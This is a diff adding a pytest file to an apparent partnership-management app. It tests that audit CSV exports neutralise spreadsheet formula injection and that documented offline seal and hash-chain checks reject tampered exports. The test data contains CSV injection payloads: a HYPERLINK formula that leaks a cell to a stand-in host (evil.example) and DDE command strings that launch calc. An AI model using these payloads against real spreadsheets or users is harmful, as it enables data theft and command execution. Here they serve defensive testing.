@@ -1,0 +1,142 @@
+"""The audit exports as an attacker would use them: formula cells in the CSV, whatever the
+column; and the offline checks of docs/audit.md run by a third party on real exports and
+seals, which refuse an edited seal."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from sqlalchemy import insert
+
+from partnerflow.engine import audit, auditseal, csvsafe
+from partnerflow.engine.models import AuditEvent
+
+DOCS = Path(__file__).resolve().parents[2] / "docs" / "audit.md"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+HOSTILE = {"seq": -7, "type": "+cmd|' /C calc'!A0", "actor": HYPERLINK, "partnership_id": -1,
+           "instance_id": -2, "task_uuid": "@SUM(1+1)*cmd|' /C calc'!A0", "element_id": "\t=1+1",
+           "payload": -3, "prev_hash": "\r=2+2", "hash": "\n=3+3"}
+
+
+def insert_hostile_event(pf, partnership_id: int) -> None:
+    """Written straight into the database: such names are refused at creation."""
+    with pf.db.begin() as conn:
+        conn.execute(insert(AuditEvent.__table__).values(
+            chain=audit.chain_for(partnership_id), occurred_at=datetime(2026, 3, 2, tzinfo=UTC),
+            **HOSTILE))
+
+
+def csv_rows(response) -> list[dict]:
+    assert response.status_code == 200
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_no_cell_of_any_column_of_the_audit_csv_is_a_formula(world, as_user):
+    insert_hostile_event(world.pf, world.own)
+    rows = csv_rows(as_user("alice").get(f"/partenariats/{world.own}/audit.csv"))
+    [hostile] = [r for r in rows if r["seq"] == "'-7"]
+    for column, value in hostile.items():
+        assert not value.startswith(csvsafe.TRIGGERS), (column, value)
+    assert hostile["actor"] == "'" + HYPERLINK
+    # nothing lost: removing the quote gives back what was stored
+    stored = {k: json.dumps(v) if k == "payload" else str(v) for k, v in HOSTILE.items()}
+    assert {k: csvsafe.unquote(hostile[k]) for k in HOSTILE} == stored
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(csvsafe.TRIGGERS)
+
+
+def test_the_csv_export_unquoted_is_the_json_lines_export(world, as_user):
+    auditor = as_user("alice")
+    rows = csv_rows(auditor.get(f"/partenariats/{world.own}/audit.csv"))
+    lines = [json.loads(line) for line in auditor.get(
+        f"/partenariats/{world.own}/audit.jsonl").get_data(as_text=True).splitlines()]
+    events = [line for line in lines if "chain_head" not in line]
+    assert len(rows) == len(events) > 3
+    for row, event in zip(rows, events, strict=True):
+        for column, value in row.items():
+            expected = event[column]
+            if column == "payload":
+                expected = json.dumps(expected, sort_keys=True, separators=(",", ":"),
+                                      ensure_ascii=False)
+            assert csvsafe.unquote(value) == ("" if expected is None else str(expected))
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("'quoted", "''quoted"),
+    ("claire.martin", "claire.martin"), (None, ""), (-5, "'-5"), (12, "12"), ("", ""),
+])
+def test_the_shared_cell_rule(value, cell):
+    assert csvsafe.cell(value) == cell
+    assert csvsafe.unquote(cell) == ("" if value is None else str(value))
+
+
+# ---------------------------------------------------------------- the documented offline checks
+
+
+def doc_script(marker: str) -> str:
+    blocks = re.findall(r"```python\n(.*?)```", DOCS.read_text(encoding="utf-8"), re.S)
+    [script] = [b for b in blocks if marker in b]
+    return script
+
+
+def run(script: str, *args) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-c", script, *map(str, args)], capture_output=True,
+                          text=True, timeout=60)
+
+
+@pytest.fixture
+def exported(world, as_user, tmp_path):
+    pf = world.pf
+    with pf.read() as session:
+        seal = auditseal.make_seal(session, pf.audit_keys, at=pf.clock(), site=None)
+    seal_file = tmp_path / "seal.json"
+    seal_file.write_text(auditseal.dumps(seal), encoding="utf-8")
+    export = tmp_path / "audit.jsonl"
+    export.write_text(as_user("alice").get(f"/partenariats/{world.own}/audit.jsonl")
+                      .get_data(as_text=True), encoding="utf-8")
+    return seal_file, seal["public_key"], export
+
+
+def test_the_documented_seal_check_accepts_a_genuine_seal_and_export(exported):
+    seal_file, public_key, export = exported
+    result = run(doc_script("seal genuine"), seal_file, public_key, export)
+    assert result.returncode == 0, result.stderr
+    assert "seal genuine" in result.stdout
+    result = run(doc_script("chain intact:"), export)
+    assert result.returncode == 0, result.stderr
+
+
+def test_the_documented_seal_check_refuses_an_edited_seal(exported):
+    seal_file, public_key, export = exported
+    seal = json.loads(seal_file.read_text(encoding="utf-8"))
+    seal["chains"][-1]["events"] += 1
+    seal_file.write_text(json.dumps(seal), encoding="utf-8")
+    result = run(doc_script("seal genuine"), seal_file, public_key, export)
+    assert result.returncode != 0 and "InvalidSignature" in result.stderr
+
+
+def test_the_documented_seal_check_refuses_a_rewritten_export(exported, world):
+    seal_file, public_key, export = exported
+    lines = export.read_text(encoding="utf-8").splitlines()
+    chain = audit.chain_for(world.own)
+    sealed = next(c for c in json.loads(seal_file.read_text())["chains"] if c["chain"] == chain)
+    rewritten = []
+    for line in lines:
+        row = json.loads(line)
+        if row.get("seq") == sealed["events"]:
+            row["hash"] = "f" * 64
+        rewritten.append(json.dumps(row))
+    export.write_text("\n".join(rewritten) + "\n", encoding="utf-8")
+    result = run(doc_script("seal genuine"), seal_file, public_key, export)
+    assert result.returncode != 0 and "rewritten or cut back since the seal" in result.stderr
